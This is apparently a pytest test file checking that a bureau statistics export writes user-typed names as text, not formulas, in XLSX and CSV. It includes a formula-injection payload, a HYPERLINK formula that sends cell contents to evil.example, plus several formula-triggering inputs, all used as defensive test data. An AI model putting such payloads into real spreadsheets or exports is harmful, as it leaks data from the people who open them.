"""What people typed reaches the bureau's workbook as text, never as a formula (issue 14, point 2)."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from core.sheets import csv_field
from tests.factories import BureauFactory, CommissionerFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def _export(api) -> bytes:
    response = api.as_user(BureauFactory()).get("/stats/export.xlsx", **{"from": "2024-01-01", "to": "2024-12-31"})
    assert response.status_code == 200
    return response.content


def _cells_named(content: bytes, text: str) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb for row in ws.iter_rows() for cell in row if cell.value == text]


@pytest.mark.parametrize("name", [HYPERLINK, "=1+1", "+1+1", "@SUM(1,1)", "-1+1"])
def test_a_name_that_looks_like_a_formula_is_a_text_cell_exactly_as_typed(api, name):
    CommissionerFactory(name=name, area_id="451002")
    cells = _cells_named(_export(api), name)
    assert [(cell.data_type, cell.value) for cell in cells] == [("s", name)]


def test_the_workbook_holds_no_formula_at_all(api):
    CommissionerFactory(name="=1+1", area_id="451002")
    CommissionerFactory(name=HYPERLINK, area_id="451003")
    with zipfile.ZipFile(io.BytesIO(_export(api))) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_csv_field_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "1+1", 42, None, -3])
def test_a_csv_field_that_is_harmless_is_left_alone(value):
    assert csv_field(value) == value
